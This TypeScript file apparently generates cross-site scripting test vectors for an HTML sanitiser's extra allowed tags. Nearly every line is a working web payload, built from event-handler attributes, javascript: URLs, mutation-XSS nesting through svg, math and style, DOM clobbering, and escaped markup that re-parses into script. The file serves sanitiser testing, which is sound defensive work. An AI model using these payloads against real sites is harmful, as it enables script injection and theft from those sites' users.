import { each, family } from './payload.ts'

const image = (js: string): string => `<img src=x: onerror=${js}>`
/** The same, escaped: text of an attribute that becomes markup if it is serialised and parsed again. */
const hidden = (js: string): string => `&lt;img src=x: onerror=${js}&gt;`

/** The tags that are allowed beyond those of the specification. */
const TAGS = 'hr section aside small mark cite q abbr time kbd ruby rt rp details summary'.split(' ')

const handled = each(
  'allowed',
  TAGS,
  (tag, { js }) => `<${tag} onclick="${js}" onmouseover="${js}" onfocus="${js}" autofocus tabindex=0>t</${tag}>`,
)
const styled = each(
  'allowed-style',
  TAGS,
  (tag, { js, url }) =>
    `<${tag} style="position:fixed;inset:0;z-index:99;background:url(${url}.png);animation:breathe 1ms" onanimationstart="${js}">t</${tag}>`,
)
const addressed = each(
  'allowed-address',
  TAGS,
  (tag, { js, url }) =>
    `<${tag} src="${url}.png" href="javascript:${js}" cite="${url}" datetime="javascript:${js}" action="javascript:${js}" open>t</${tag}>`,
)

const particular = family('allowed-case', {
  'details-toggle-open': ({ js }) => `<details open ontoggle="${js}"><summary>s</summary>t</details>`,
  'details-toggle-closed': ({ js }) => `<details ontoggle="${js}"><summary>s</summary>t</details>`,
  'details-toggle-capitals': ({ js }) => `<DETAILS OPEN ONTOGGLE=${js}>t</DETAILS>`,
  'details-toggle-slashes': ({ js }) => `<details/open/ontoggle=${js}>t`,
  'details-before-toggle': ({ js }) => `<details open onbeforetoggle="${js}" onbeforematch="${js}">t</details>`,
  'details-open-handler': ({ js }) => `<details open="" open="${js}" ontoggle='${js}'>t</details>`,
  'details-in-details': ({ js }) =>
    `<details open><details open ontoggle=${js}><summary><details open ontoggle=${js}></summary></details>`,
  'details-group': ({ js }) =>
    `<details name=g open ontoggle=${js}>a</details><details name=g open ontoggle=${js}>b</details>`,
  'details-hidden': ({ js }) => `<details><p hidden=until-found onbeforematch="${js}">t</p></details>`,
  'details-slot': ({ js }) => `<details open><slot onslotchange="${js}"><summary slot=x>s</summary></slot></details>`,
  'details-style': ({ js }) => `<details open><style onload=${js}>@import 'x:'</style></details>`,
  'summary-in-nothing': ({ js }) => `<summary onclick="${js}" accesskey=x>s</summary>`,
  'summary-script': ({ js }) => `<details open><summary><script>${js}</script></summary></details>`,
  'summary-button': ({ js }) => `<details><summary><button onclick="${js}">Close</button></summary></details>`,
  'summary-popover': ({ js }) =>
    `<details popover id=pop ontoggle="${js}"><summary popovertarget=pop>s</summary>t</details>`,
  'ruby-nested': ({ js }) => `<ruby><rt><rt><rp><rtc><rb>${image(js)}<rt>${image(js)}</ruby>`,
  'ruby-in-table': ({ js }) => `<table><ruby><rt><tr><td>${image(js)}<rp></ruby></table>`,
  'ruby-in-drawing': ({ js }) => `<svg><ruby><rt><style><a title="</style>${image(js)}"></svg>`,
  'ruby-in-formula': ({ js }) => `<math><mtext><ruby><rt><mglyph><style><!--</style>${image(js)}-->`,
  'ruby-style': ({ js }) => `<ruby><rt><style></rt></ruby>${image(js)}</style>`,
  'ruby-glyph': ({ js }) => `<ruby><math><rt><mglyph><style><a title="</style>${image(js)}"></ruby>`,
  'ruby-of-rubies': ({ js }) => `${'<ruby><rt>'.repeat(60)}${image(js)}`,
  'section-of-formula': ({ js }) => `<math><section></math><section><style><a title="</style>${image(js)}">`,
  'aside-ends-paragraph': ({ js }) => `<p><aside><p><svg></p><style><a id="</style>${image(js)}"></aside>`,
  'section-label': ({ js }) => `<section aria-label="Page text" tabindex=0 inert onclick="${js}">t</section>`,
  'rule-in-select': ({ js }) => `<select onchange="${js}"><hr onclick="${js}"><option>${image(js)}</select>`,
  'rule-in-drawing': ({ js }) => `<svg><hr><style><a title="</style>${image(js)}"></svg>`,
  'rule-noshade': ({ js }) => `<hr noshade size=9 onload="${js}" background="x:"/>${image(js)}`,
  'quote-cite': ({ js, url }) => `<q cite="javascript:${js}"><cite src="${url}.png">c</cite></q>`,
  'quote-signs': ({ js }) => `<q style="quotes:'&lt;img src=x: onerror=${js}&gt;' '&quot;'">q</q>`,
  'title-escaped': ({ js }) => `<abbr title="${hidden(js)}">a</abbr><mark title='"${hidden(js)}'>m</mark>`,
  'time-escaped': ({ js }) => `<time datetime="&quot;&gt;${hidden(js)}">t</time>`,
  'time-clobbering': ({ js }) => `<time id=attributes name=nodeName onclick="${js}">t</time>`,
  'mark-in-template': ({ js }) => `<template><mark>${image(js)}</mark></template><mark><template>${image(js)}`,
  'key-nested': ({ js }) => `${'<kbd>'.repeat(9)}<p>${'</kbd>'.repeat(9)}${image(js)}</p>`,
  'small-adopted': ({ js }) => `<small><p><mark></small>${image(js)}</mark></p>`,
})

export const ALLOWED_TAGS = [...handled, ...styled, ...addressed, ...particular]
